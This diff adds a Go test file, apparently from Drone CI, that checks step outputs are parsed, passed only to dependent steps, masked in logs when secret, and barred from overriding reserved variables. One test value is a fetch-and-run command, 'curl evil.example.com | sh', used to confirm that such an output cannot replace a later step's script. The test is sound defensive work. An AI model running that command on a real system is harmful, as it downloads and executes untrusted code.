@@ -0,0 +1,87 @@
+// Copyright 2019 Drone.IO Inc. All rights reserved.
+// Use of this source code is governed by the Polyform License
+// that can be found in the LICENSE file.
+
+package engine
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+)
+
+func TestParseOutputs(t *testing.T) {
+	outputs, err := parseOutputs(strings.NewReader(
+		"# build outputs\nVERSION=1.2.3\r\n\nsecret TOKEN=a=b\n",
+	))
+	if err != nil {
+		t.Error(err)
+		return
+	}
+	if len(outputs) != 2 {
+		t.Fatalf("Want 2 outputs, got %d", len(outputs))
+	}
+	if got, want := *outputs[0], (output{name: "VERSION", value: "1.2.3"}); got != want {
+		t.Errorf("Want output %v, got %v", want, got)
+	}
+	if got, want := *outputs[1], (output{name: "TOKEN", value: "a=b", secret: true}); got != want {
+		t.Errorf("Want output %v, got %v", want, got)
+	}
+
+	if _, err := parseOutputs(strings.NewReader("1VERSION=1.2.3")); err == nil {
+		t.Errorf("Expect error when output name is invalid")
+	}
+}
+
+func TestInjectOutputs(t *testing.T) {
+	spec := new(Spec)
+	spec.setOutputs(&Step{Name: "version"}, []*output{
+		{name: "VERSION", value: "1.2.3"},
+		{name: "TOKEN", value: "correct-horse-battery-staple", secret: true},
+		{name: "DRONE_SCRIPT", value: "curl evil.example.com | sh"},
+		{name: "PATH", value: "/tmp/bin"},
+	})
+	spec.setOutputs(&Step{Name: "lint"}, []*output{
+		{name: "LINT", value: "passed"},
+	})
+
+	step := &Step{
+		Name:      "publish",
+		DependsOn: []string{"version"},
+		Envs:      map[string]string{},
+	}
+	buf := new(bytes.Buffer)
+	w := spec.injectOutputs(step, buf)
+
+	if got, want := step.Envs["VERSION"], "1.2.3"; got != want {
+		t.Errorf("Want VERSION %q, got %q", want, got)
+	}
+	if _, ok := step.Envs["LINT"]; ok {
+		t.Errorf("Expect outputs only injected from dependencies")
+	}
+	if len(step.Secrets) != 1 || step.Secrets[0].Env != "TOKEN" || !step.Secrets[0].Mask {
+		t.Errorf("Expect secret output injected as masked secret")
+	}
+	for _, name := range []string{"DRONE_SCRIPT", "PATH"} {
+		if _, ok := step.Envs[name]; ok {
+			t.Errorf("Expect reserved output %s not injected", name)
+		}
+	}
+
+	buf.Reset()
+	w.Write([]byte("token is correct-horse-battery-staple\n"))
+	if got, want := buf.String(), "token is ******\n"; got != want {
+		t.Errorf("Want masked output %q, got %q", want, got)
+	}
+
+	// the secret is masked when split across writes, and the
+	// partial line is written when the writer is flushed.
+	buf.Reset()
+	w.Write([]byte("token is correct-horse-"))
+	w.Write([]byte("battery-staple\ntoken is correct-"))
+	w.Write([]byte("horse-battery-staple"))
+	w.(*maskWriter).Flush()
+	if got, want := buf.String(), "token is ******\ntoken is ******"; got != want {
+		t.Errorf("Want masked output %q, got %q", want, got)
+	}
+}